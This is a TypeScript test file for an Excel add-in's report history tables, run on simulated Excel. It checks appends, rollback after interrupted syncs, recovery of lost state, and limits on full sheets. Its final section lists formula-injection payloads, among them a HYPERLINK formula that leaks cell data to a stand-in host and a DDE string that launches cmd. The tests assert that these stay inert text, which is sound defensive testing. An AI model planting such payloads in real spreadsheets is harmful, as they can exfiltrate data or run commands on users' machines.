/**
 * History tables on the Excel simulator, through Microsoft's Office.js, on Excel on the web (one
 * Table.resize, range writes) and on Excel 2019 (no resize: rows.add): what each append adds, that it
 * never adds twice, that an append Excel stops midway leaves the history exactly as it was (or is repaired
 * by the next one), that a history edited by hand or recognised after its state was lost is read back
 * first, that a full sheet stops an append before anything is written, and that report text stays text.
 */
import {
  appendHistory,
  HistoryAppendError,
  HistoryFullError,
  startHistoryTable,
} from "../../../src/excel/history-table";
import { numberFormatFor } from "../../../src/excel/number-formats";
import { listReportTables, saveRecord } from "../../../src/excel/registry";
import { tableRecord, type HistoryState } from "../../../src/excel/registry-entry";
import { findReport, parseReport, type ParsedReport } from "../../../src/reports";
import {
  DaySet,
  dayOfIso,
  dayOfSerial,
  historyGaps,
  isoOfDay,
  REPORT_DATE,
  SHEET_ROWS,
} from "../../../src/reports/history";
import { FORMULA_VALUE, type ExcelSimulatorOptions } from "../../emulator/excel";
import {
  addDays,
  answer,
  csvOf,
  historyRows,
  HOSTS,
  storedEntry,
  storedHistory,
  workbookWithHistory,
  type SimulatedExcel,
} from "./history-fixtures";

const COUNTS = findReport("getOffice365ActiveUserCounts")!;
const DETAIL = findReport("getMailboxUsageDetail")!;
const DAY0 = "2024-05-03"; // a Friday

const serialOf = (iso: string) => dayOfIso(iso) + 25_569;
const daysOf = (isos: readonly string[]) => DaySet.of(isos.map(dayOfIso));
const span = (from: string, to: string) =>
  Array.from({ length: dayOfIso(to) - dayOfIso(from) + 1 }, (_, i) => addDays(from, i));

/**
 * What a days history holds after these answers, worked out on its own: each report date once, with the
 * rows of the first answer that had it; each answer's new dates oldest first, a date's rows together.
 */
function daysHistoryOf(answers: readonly ParsedReport[]): unknown[][] {
  const held = new Set<number>();
  const out: unknown[][] = [];
  for (const parsed of answers) {
    const at = parsed.table.columns.findIndex((c) => c.name === REPORT_DATE);
    const byDay = new Map<number, unknown[][]>();
    for (const row of parsed.table.rows(0)) {
      const day = row[at] as number;
      if (held.has(day)) continue;
      byDay.set(day, [...(byDay.get(day) ?? []), row]);
    }
    for (const day of [...byDay.keys()].sort((a, b) => a - b)) {
      held.add(day);
      out.push(...byDay.get(day)!);
    }
  }
  return out;
}

const snapshotRows = (...snapshots: ParsedReport[]) => snapshots.flatMap((s) => s.table.rows(0));

/** Writes since the stats were taken: values written, rows added, tables resized. */
function writesSince(excel: SimulatedExcel, before: Record<string, number>) {
  const calls = excel.sim.stats.calls;
  return ["Range.values=", "TableRowCollection.add", "Table.resize", "Range.delete", "Range.clear"]
    .map((k) => (calls[k] ?? 0) - (before[k] ?? 0))
    .reduce((a, b) => a + b, 0);
}

describe.each(HOSTS)("on %s", (_name, options: ExcelSimulatorOptions) => {
  const resizes = options.host === "web";

  it("days: D7 answers day after day add only the report dates the history lacks, oldest first, never twice", async () => {
    const first = await answer(COUNTS, DAY0);
    const excel = await workbookWithHistory(options, first);
    const { entry, history } = excel;
    expect(excel.sim.workbook.table(history)!.headers).toEqual(COUNTS.columns.map((c) => c.name));
    const answers: ParsedReport[] = [];
    const refresh = async (dataDate: string) => {
      const parsed = await answer(COUNTS, dataDate);
      answers.push(parsed);
      return appendHistory(excel.host, entry.table, parsed);
    };

    const a = await refresh(DAY0);
    expect(a.appendedDays.map(isoOfDay)).toEqual(span(addDays(DAY0, -6), DAY0));
    expect(a.appendedRows).toBe(7);
    const b = await refresh(addDays(DAY0, 1));
    expect(b.appendedDays.map(isoOfDay)).toEqual([addDays(DAY0, 1)]);

    // The same day again, after a save and reopen: nothing to add, nothing written.
    excel.sim.saveAndReopen();
    const calls = { ...excel.sim.stats.calls };
    const again = await refresh(addDays(DAY0, 1));
    expect(again).toMatchObject({ appendedRows: 0, appendedDays: [] });
    expect(writesSince(excel, calls)).toBe(0);

    await refresh(addDays(DAY0, 2));
    // Twelve days on: D7 reaches back to DAY0 + 6, so DAY0 + 3 … DAY0 + 5 are lost to the history.
    const late = await refresh(addDays(DAY0, 12));
    expect(late.appendedDays.map(isoOfDay)).toEqual(span(addDays(DAY0, 6), addDays(DAY0, 12)));
    await refresh(addDays(DAY0, 12));

    expect(historyRows(excel, history)).toEqual(daysHistoryOf(answers));
    const dates = historyRows(excel, history).map((r) => r[COUNTS.columns.length - 2]);
    expect(new Set(dates).size).toBe(dates.length);
    const state = (await storedHistory(excel, entry.table))!;
    expect(state).toEqual({
      table: history,
      kind: "days",
      cadence: "daily",
      rows: 16,
      days: daysOf([
        ...span(addDays(DAY0, -6), addDays(DAY0, 2)),
        ...span(addDays(DAY0, 6), addDays(DAY0, 12)),
      ]),
    });
    expect(historyGaps(state)).toEqual({
      missingDays: 3,
      runs: [[dayOfIso(addDays(DAY0, 3)), dayOfIso(addDays(DAY0, 5))]],
    });
    // Web grows the table with resize and range writes; Excel 2019 adds rows.
    expect(excel.sim.stats.tableRowsAdd > 0).toBe(!resizes);
    expect((excel.sim.stats.calls["Table.resize"] ?? 0) > 0).toBe(resizes);
    // Each column in its type's number format, down to the last row.
    const sheet = excel.sim.workbook.sheet(excel.sim.workbook.table(history)!.sheet);
    expect(sheet.numberFormats("A2:J17")).toEqual(
      Array.from({ length: 16 }, () => COUNTS.columns.map((c) => numberFormatFor(c.type))),
    );
    // The report table stays the latest data: the history never touched it.
    expect(excel.sim.workbook.table(entry.table)!.rows).toEqual(first.table.rows(0));
  });

  it("days: the rows of one report date stay together, in the report's order, oldest date first", async () => {
    const report = findReport("getSharePointSiteUsageFileCounts")!;
    const header = report.columns.map((c) => c.name); // Refresh Date, Site Type, Total, Active, Report Date, Period
    const row = (type: string, total: number, date: string) => [DAY0, type, String(total), "1", date, "7"];
    const csv = csvOf(header, [
      row("All", 30, addDays(DAY0, 0)),
      row("Team", 31, addDays(DAY0, -1)),
      row("All", 32, addDays(DAY0, -1)),
      row("Team", 33, addDays(DAY0, 0)),
      row("Group", 34, addDays(DAY0, -2)),
      row("Team", 35, addDays(DAY0, -2)),
    ]);
    const parsed = await parseReport(csv, report);
    const excel = await workbookWithHistory(options, parsed);
    await appendHistory(excel.host, excel.entry.table, parsed);
    expect(historyRows(excel, excel.history).map((r) => [r[4], r[1], r[2]])).toEqual([
      [serialOf(addDays(DAY0, -2)), "Group", 34],
      [serialOf(addDays(DAY0, -2)), "Team", 35],
      [serialOf(addDays(DAY0, -1)), "Team", 31],
      [serialOf(addDays(DAY0, -1)), "All", 32],
      [serialOf(addDays(DAY0, 0)), "All", 30],
      [serialOf(addDays(DAY0, 0)), "Team", 33],
    ]);
  });

  it("snapshots: one per data date, never the same date twice; a skipped date is a gap", async () => {
    const first = await answer(DETAIL, DAY0);
    const excel = await workbookWithHistory(options, first);
    const table = excel.entry.table;
    const second = await answer(DETAIL, addDays(DAY0, 1));
    const fourth = await answer(DETAIL, addDays(DAY0, 3));
    expect(await appendHistory(excel.host, table, first)).toMatchObject({
      appendedRows: first.rowCount,
      appendedDays: [dayOfIso(DAY0)],
    });
    expect((await appendHistory(excel.host, table, first)).appendedRows).toBe(0);
    await appendHistory(excel.host, table, second);
    await appendHistory(excel.host, table, fourth);
    await appendHistory(excel.host, table, second);
    expect(historyRows(excel, excel.history)).toEqual(snapshotRows(first, second, fourth));
    const state = (await storedHistory(excel, table))!;
    expect(state).toMatchObject({
      rows: first.rowCount + second.rowCount + fourth.rowCount,
      names: "real",
      days: daysOf([DAY0, addDays(DAY0, 1), addDays(DAY0, 3)]),
    });
    expect(historyGaps(state).runs).toEqual([[dayOfIso(addDays(DAY0, 2)), dayOfIso(addDays(DAY0, 2))]]);
  });

  it.each([
    // Mondays 2024-05-06 and -13; the week of 2024-05-20 is skipped.
    [
      "weekly",
      ["2024-05-06", "2024-05-08", "2024-05-12", "2024-05-13", "2024-05-27"],
      ["2024-05-06", "2024-05-13", "2024-05-27"],
      [["2024-05-20", "2024-05-26"]],
    ],
    // July is skipped.
    [
      "monthly",
      ["2024-05-03", "2024-05-31", "2024-06-01", "2024-06-29", "2024-08-02"],
      ["2024-05-03", "2024-06-01", "2024-08-02"],
      [["2024-07-01", "2024-07-31"]],
    ],
  ] as const)(
    "snapshots kept %s: one per period, the first of it",
    async (cadence, dataDates, kept, missing) => {
      const answers = await Promise.all(dataDates.map((d) => answer(DETAIL, d)));
      const excel = await workbookWithHistory(options, answers[0]!, cadence);
      for (const parsed of answers) await appendHistory(excel.host, excel.entry.table, parsed);
      const keptAnswers = answers.filter((a) => (kept as readonly string[]).includes(a.reportRefreshDate!));
      expect(historyRows(excel, excel.history)).toEqual(snapshotRows(...keptAnswers));
      const state = (await storedHistory(excel, excel.entry.table))!;
      expect(state).toMatchObject({ cadence, days: daysOf(kept) });
      expect(historyGaps(state).runs).toEqual(missing.map(([a, b]) => [dayOfIso(a), dayOfIso(b)]));
    },
  );

  it("a calculated column the user added keeps its formula in the rows appended; report columns are filled", async () => {
    const first = await answer(DETAIL, DAY0);
    const excel = await workbookWithHistory(options, first);
    const table = excel.entry.table;
    await appendHistory(excel.host, table, first);
    const formula = "=[@[Item Count]]*2";
    await excel.sim.run(async (context) => {
      const history = context.workbook.tables.getItem(excel.history);
      history.columns.add(undefined, undefined, "Double items");
      const column = history.columns.getItem("Double items").getDataBodyRange();
      column.formulas = Array.from({ length: first.rowCount }, () => [formula]);
      await context.sync();
    });
    const second = await answer(DETAIL, addDays(DAY0, 1));
    expect((await appendHistory(excel.host, table, second)).appendedRows).toBe(second.rowCount);

    const view = excel.sim.workbook.table(excel.history)!;
    expect(view.calculatedColumns).toEqual(["Double items"]);
    const position = view.headers.indexOf("Double items");
    const sheet = excel.sim.workbook.sheet(view.sheet);
    const formulas = sheet
      .formulas(view.address)
      .slice(1)
      .map((r) => r[position]);
    expect(formulas).toEqual(Array.from({ length: first.rowCount + second.rowCount }, () => formula));
    const reportColumns = view.rows.map((r) => r.filter((_, i) => i !== position));
    expect(reportColumns).toEqual(snapshotRows(first, second));
  });

  it("names: real, then mixed once a snapshot with concealed (hashed) names joins", async () => {
    const real = await answer(DETAIL, DAY0);
    const concealed = await answer(DETAIL, addDays(DAY0, 1), { concealNames: true });
    expect([real.concealedNames.detected, concealed.concealedNames.detected]).toEqual([false, true]);
    const excel = await workbookWithHistory(options, real);
    const table = excel.entry.table;
    await appendHistory(excel.host, table, real);
    expect((await storedHistory(excel, table))!.names).toBe("real");
    await appendHistory(excel.host, table, concealed);
    expect((await storedHistory(excel, table))!.names).toBe("mixed");

    const other = await workbookWithHistory(options, concealed);
    await appendHistory(other.host, other.entry.table, concealed);
    expect((await storedHistory(other, other.entry.table))!.names).toBe("concealed");
  });
});

/**
 * Excel stops accepting changes (a cell being edited, a coauthoring conflict) at each sync of an append in
 * turn. A small payload limit makes the append take several batches, so there are syncs between them.
 */
describe.each(HOSTS)("an append Excel stops midway, on %s", (_name, hostOptions: ExcelSimulatorOptions) => {
  const options = { ...hostOptions, payloadLimitBytes: 48 * 1024 };
  let held: ParsedReport;
  let big: ParsedReport;
  /** Syncs and batches of the append, from a history with rows and from an empty one. */
  const syncs = new Map<boolean, number>();
  const batches = new Map<boolean, number>();

  /** A history holding one snapshot (or none), before the append of `big`. */
  async function before(withRows: boolean) {
    const excel = await workbookWithHistory(options, held);
    if (withRows) await appendHistory(excel.host, excel.entry.table, held);
    return {
      excel,
      rows: historyRows(excel, excel.history),
      address: excel.sim.workbook.table(excel.history)!.address,
      state: (await storedHistory(excel, excel.entry.table))!,
      status: excel.sim.workbook.table("HistoryStatus")!.rows,
    };
  }

  beforeAll(async () => {
    held = await answer(DETAIL, DAY0);
    big = await answer(DETAIL, addDays(DAY0, 1), { users: 600 });
    for (const withRows of [true, false]) {
      const { excel } = await before(withRows);
      const at = excel.sim.stats.syncs;
      let n = 0;
      await appendHistory(excel.host, excel.entry.table, big, { onProgress: () => n++ });
      syncs.set(withRows, excel.sim.stats.syncs - at);
      batches.set(withRows, n);
      expect(n).toBeGreaterThanOrEqual(3);
      expect(historyRows(excel, excel.history)).toEqual(
        withRows ? snapshotRows(held, big) : snapshotRows(big),
      );
    }
  });

  /** Each sync of the append, refused, from a history with rows and from an empty one. */
  const cases = () =>
    [true, false].flatMap((withRows) =>
      Array.from({ length: syncs.get(withRows)! }, (_, i) => ({ sync: i + 1, withRows })),
    );

  it("refused once at any sync: the history keeps exactly its rows and registry state; the next append adds the snapshot once", async () => {
    let rolledBack = 0;
    for (const { sync, withRows } of cases()) {
      const was = await before(withRows);
      const { excel } = was;
      excel.sim.refuseSyncs({ from: sync });
      // Refused while reading, the error is Excel's own; once writing, a HistoryAppendError.
      const error = await appendHistory(excel.host, excel.entry.table, big).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(Error);
      if (error instanceof HistoryAppendError) rolledBack++;
      expect([sync, historyRows(excel, excel.history)]).toEqual([sync, was.rows]);
      expect(excel.sim.workbook.table(excel.history)!.address).toBe(was.address);
      expect(await storedHistory(excel, excel.entry.table)).toEqual(was.state);
      expect(excel.sim.workbook.table("HistoryStatus")!.rows).toEqual(was.status);

      const next = await appendHistory(excel.host, excel.entry.table, big);
      expect(next.appendedRows).toBe(big.rowCount);
      expect(historyRows(excel, excel.history)).toEqual(
        withRows ? snapshotRows(held, big) : snapshotRows(big),
      );
    }
    expect(rolledBack).toBeGreaterThanOrEqual(batches.get(true)! + batches.get(false)!);
  });

  it("refused from there on, the rollback too: the registry marks it; the next append removes the leftovers first", async () => {
    let repaired = 0;
    for (const { sync, withRows } of cases()) {
      const was = await before(withRows);
      const { excel } = was;
      excel.sim.refuseSyncs({ from: sync, count: Infinity });
      await expect(appendHistory(excel.host, excel.entry.table, big)).rejects.toThrow();
      excel.sim.acceptSyncs();
      excel.sim.saveAndReopen();
      const left = (await storedHistory(excel, excel.entry.table))!;
      const { appending, ...rest } = left;
      expect([sync, rest]).toEqual([sync, was.state]);
      // Marked "appending" exactly when the table may hold rows past the registry's.
      const leftovers = excel.sim.workbook.table(excel.history)!.rows.length > Math.max(was.rows.length, 1);
      if (leftovers) expect(appending).toBe(true);
      if (appending) repaired++;

      const next = await appendHistory(excel.host, excel.entry.table, big);
      expect(next.appendedRows).toBe(big.rowCount);
      expect(historyRows(excel, excel.history)).toEqual(
        withRows ? snapshotRows(held, big) : snapshotRows(big),
      );
      expect(await storedHistory(excel, excel.entry.table)).toEqual({
        ...was.state,
        rows: was.state.rows + big.rowCount,
        days: was.state.days.with([dayOfIso(addDays(DAY0, 1))]),
        names: "real",
      });
    }
    // Refused after a batch went in: every later batch's sync, with rows held and without.
    expect(repaired).toBeGreaterThanOrEqual(batches.get(true)! + batches.get(false)! - 2);
  });

  it("after a stopped append, an append with nothing new still removes the leftovers", async () => {
    for (const withRows of [true, false]) {
      const was = await before(withRows);
      const { excel } = was;
      // The second batch's sync: the first batch's rows are in the table.
      let calls = 0;
      await expect(
        appendHistory(excel.host, excel.entry.table, big, {
          onProgress: () => {
            if (++calls === 1) excel.sim.refuseSyncs({ from: 1, count: Infinity });
          },
        }),
      ).rejects.toThrow(HistoryAppendError);
      excel.sim.acceptSyncs();
      expect(excel.sim.workbook.table(excel.history)!.rows.length).toBeGreaterThan(was.rows.length);
      expect((await storedHistory(excel, excel.entry.table))!.appending).toBe(true);

      await appendHistory(excel.host, excel.entry.table, undefined);
      expect(historyRows(excel, excel.history)).toEqual(was.rows);
      expect(excel.sim.workbook.table(excel.history)!.address).toBe(was.address);
      expect(await storedHistory(excel, excel.entry.table)).toEqual(was.state);
    }
  });
});

describe.each(HOSTS)("a history that is not what the registry says, on %s", (_name, options) => {
  it("rows deleted by hand: read back, the days they held added again, nothing twice", async () => {
    const answers = await Promise.all([0, 1, 2].map((d) => answer(COUNTS, addDays(DAY0, d))));
    const excel = await workbookWithHistory(options, answers[0]!);
    const table = excel.entry.table;
    await appendHistory(excel.host, table, answers[0]);
    await appendHistory(excel.host, table, answers[1]);
    // Someone deletes the rows of DAY0 - 1 and DAY0 (the history's 6th and 7th rows).
    await excel.sim.run(async (context) => {
      const history = context.workbook.tables.getItem(excel.history);
      history.worksheet.getRange("A7:J8").delete("Up"); // below the header, rows 6 and 7
      await context.sync();
    });
    expect(historyRows(excel, excel.history)).toHaveLength(6);

    const result = await appendHistory(excel.host, table, answers[2]);
    expect(result.appendedDays.map(isoOfDay)).toEqual([addDays(DAY0, -1), DAY0, addDays(DAY0, 2)]);
    const dates = historyRows(excel, excel.history).map((r) => isoOfDay(dayOfSerial(r[8] as number)));
    expect(dates).toEqual([
      ...span(addDays(DAY0, -6), addDays(DAY0, -2)),
      addDays(DAY0, 1),
      addDays(DAY0, -1),
      DAY0,
      addDays(DAY0, 2),
    ]);
    expect(await storedHistory(excel, table)).toMatchObject({
      rows: 9,
      days: daysOf(span(addDays(DAY0, -6), addDays(DAY0, 2))),
    });
  });

  it("snapshot rows deleted by hand: read back; the data date still held is not added again", async () => {
    const first = await answer(DETAIL, DAY0);
    const second = await answer(DETAIL, addDays(DAY0, 1));
    const excel = await workbookWithHistory(options, first);
    const table = excel.entry.table;
    await appendHistory(excel.host, table, first);
    await excel.sim.run(async (context) => {
      context.workbook.tables.getItem(excel.history).worksheet.getRange("A2:Q2").delete("Up");
      await context.sync();
    });
    expect((await appendHistory(excel.host, table, first)).appendedRows).toBe(0);
    expect(await storedHistory(excel, table)).toMatchObject({ rows: first.rowCount - 1 });
    await appendHistory(excel.host, table, second);
    expect(historyRows(excel, excel.history)).toEqual([
      ...snapshotRows(first).slice(1),
      ...snapshotRows(second),
    ]);
    expect(await storedHistory(excel, table)).toMatchObject({
      rows: first.rowCount - 1 + second.rowCount,
      days: daysOf([DAY0, addDays(DAY0, 1)]),
    });
  });

  it.each([
    ["days", COUNTS],
    ["snapshots", DETAIL],
  ] as const)(
    "%s: state lost, the history is recognised by its name, read back, then appended to without duplicates",
    async (kind, report) => {
      const answers = await Promise.all([0, 1, 2].map((d) => answer(report, addDays(DAY0, d))));
      const excel = await workbookWithHistory(options, answers[0]!);
      await appendHistory(excel.host, excel.entry.table, answers[0]);
      await appendHistory(excel.host, excel.entry.table, answers[1]);
      const kept = historyRows(excel, excel.history);
      await excel.sim.run(async (context) => {
        const parts = context.workbook.customXmlParts;
        parts.load("items");
        await context.sync();
        parts.items.forEach((p) => p.delete());
        await context.sync();
      });
      excel.sim.saveAndReopen();

      const [recognised] = await excel.sim.run((context) => listReportTables(context));
      expect(recognised!.history).toMatchObject({ table: excel.history, kind, recognised: true });
      // What the pipeline does (appendRefresh): adopt the history found, then append.
      const adopted = await startHistoryTable(excel.host, recognised!, {
        kind: recognised!.history!.kind,
        cadence: recognised!.history!.cadence,
        columns: [],
        title: report.title,
      });
      expect(adopted.history).toMatchObject({ table: excel.history, recognised: true });
      expect(excel.sim.workbook.table(excel.history)!.rows).toHaveLength(kept.length);

      const again = await appendHistory(excel.host, excel.entry.table, answers[1]);
      expect(again.appendedRows).toBe(0);
      await appendHistory(excel.host, excel.entry.table, answers[2]);
      const expected =
        kind === "days" ? daysHistoryOf(answers) : snapshotRows(answers[0]!, answers[1]!, answers[2]!);
      expect(historyRows(excel, excel.history)).toEqual(expected);
      const state = (await storedEntry(excel, excel.entry.table))!.history!;
      expect(state.recognised).toBeUndefined();
      expect(state.rows).toBe(expected.length);
      expect(state.days).toEqual(
        kind === "days"
          ? daysOf(span(addDays(DAY0, -6), addDays(DAY0, 2)))
          : daysOf([0, 1, 2].map((d) => addDays(DAY0, d))),
      );
    },
  );
});

describe.each(HOSTS)("a weekly history whose state is lost, on %s", (_name, options) => {
  it("is read back as weekly (from its snapshot days) and keeps one snapshot a week from there", async () => {
    const days = [0, 7, 14].map((d) => addDays(DAY0, d));
    const answers = await Promise.all(days.map((d) => answer(DETAIL, d)));
    const excel = await workbookWithHistory(options, answers[0]!, "weekly");
    for (const parsed of answers) await appendHistory(excel.host, excel.entry.table, parsed);
    await excel.sim.run(async (context) => {
      const parts = context.workbook.customXmlParts;
      parts.load("items");
      await context.sync();
      parts.items.forEach((p) => p.delete());
      await context.sync();
    });
    const [recognised] = await excel.sim.run((context) => listReportTables(context));
    await startHistoryTable(excel.host, recognised!, {
      kind: "snapshots",
      cadence: recognised!.history!.cadence,
      columns: [],
      title: DETAIL.title,
    });
    // The day after the last snapshot is in the same week: nothing is added.
    const sameWeek = await answer(DETAIL, addDays(DAY0, 15));
    expect((await appendHistory(excel.host, excel.entry.table, sameWeek)).appendedRows).toBe(0);
    expect((await storedEntry(excel, excel.entry.table))!.history).toMatchObject({
      cadence: "weekly",
      rows: historyRows(excel, excel.history).length,
    });
  });
});

describe.each(HOSTS)("a history that reaches the sheet's last row, on %s", (_name, options) => {
  it("appends up to the last row exactly, then refuses with HistoryFullError, writing nothing", async () => {
    const answers = await Promise.all([0, 1, 2].map((d) => answer(DETAIL, addDays(DAY0, d))));
    const room = answers[0]!.rowCount + answers[1]!.rowCount;
    const excel = await workbookWithHistory(options, answers[0]!);
    const table = excel.entry.table;
    // The history moved low on a sheet: its header on the row that leaves room for two snapshots.
    const name = `${table}_Low`;
    const headerRow = SHEET_ROWS - room; // 1-based: rows headerRow + 1 … SHEET_ROWS hold the data
    const width = DETAIL.columns.length;
    await excel.sim.run(async (context) => {
      const sheet = context.workbook.worksheets.add("Low");
      const range = sheet.getRangeByIndexes(headerRow - 1, 0, 2, width);
      range.values = [DETAIL.columns.map((c) => c.name), DETAIL.columns.map(() => "")];
      sheet.tables.add(range, true).name = name;
      await context.sync();
    });
    const low: HistoryState = {
      table: name,
      kind: "snapshots",
      cadence: "daily",
      rows: 0,
      days: DaySet.empty,
    };
    const entry = (await storedEntry(excel, table))!;
    await excel.sim.run((context) => saveRecord(context, tableRecord({ ...entry, history: low })));

    await appendHistory(excel.host, table, answers[0]);
    await appendHistory(excel.host, table, answers[1]);
    const full = excel.sim.workbook.table(name)!;
    expect(full.address).toBe(`Low!A${headerRow}:${"ABCDEFGHIJKLMNOPQ"[width - 1]}${SHEET_ROWS}`);
    expect(full.rows).toEqual(snapshotRows(answers[0]!, answers[1]!));
    const state = await storedHistory(excel, table);
    const parts = excel.sim.workbook.customXmlParts();
    const calls = { ...excel.sim.stats.calls };

    const error = await appendHistory(excel.host, table, answers[2]).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(HistoryFullError);
    expect(error).toMatchObject({ tableName: name, rowsHeld: room, rowsToAdd: answers[2]!.rowCount });
    expect(writesSince(excel, calls)).toBe(0);
    expect(excel.sim.workbook.customXmlParts()).toEqual(parts);
    expect(excel.sim.workbook.table(name)!.rows).toEqual(full.rows);
    expect(await storedHistory(excel, table)).toEqual(state);
  });
});

/** Report text never becomes a formula in a history either (see formula-injection.test.ts). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(A1:A9)",
  " =1+1",
  "\t=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  "﹦1+1",
  "'=1",
  "'quoted",
  "TRUE",
  "false",
  "00123",
  "1E3",
  "-5",
  "#REF!",
];

describe.each(HOSTS)("report text stays text in a history, on %s", (_name, hostOptions) => {
  describe.each([true, false])("text format blocks formulas: %s", (blocks) => {
    const options = { ...hostOptions, textFormatBlocksFormulas: blocks };

    const expectExactly = (excel: SimulatedExcel, history: string, rows: unknown[][]) => {
      const held = historyRows(excel, history);
      expect(held).toEqual(rows);
      expect(held.flat()).not.toContain(FORMULA_VALUE);
      const strings = held.flat().filter((v): v is string => typeof v === "string" && v !== "");
      expect(strings.length).toBeGreaterThan(0);
      for (const s of strings) expect(HOSTILE).toContain(s);
    };

    it.each(["getTeamsUserActivityUserDetail", "getMailboxUsageDetail"])(
      "%s snapshot: every column hostile",
      async (name) => {
        const report = findReport(name)!;
        const csv = csvOf(
          report.columns.map((c) => c.name),
          HOSTILE.map((text) => report.columns.map(() => text)),
        );
        const parsed = await parseReport(csv, report);
        const excel = await workbookWithHistory(options, parsed);
        // The data date is the day asked for: the hostile Report Refresh Date names none.
        await appendHistory(excel.host, excel.entry.table, parsed, { snapshotDay: DAY0 });
        expectExactly(excel, excel.history, parsed.table.rows(0));
      },
    );

    it("days report: every column but Report Date hostile; a row whose Report Date is no date is left out", async () => {
      const header = COUNTS.columns.map((c) => c.name);
      const at = header.indexOf(REPORT_DATE);
      const rows = HOSTILE.map((text, i) => header.map((_, c) => (c === at ? addDays(DAY0, -i) : text)));
      rows.push(header.map(() => "=1+1"));
      const parsed = await parseReport(csvOf(header, rows), COUNTS);
      const excel = await workbookWithHistory(options, parsed);
      const result = await appendHistory(excel.host, excel.entry.table, parsed);
      expect(result.appendedRows).toBe(HOSTILE.length);
      expectExactly(excel, excel.history, parsed.table.rows(0, HOSTILE.length).reverse());
    });
  });
});
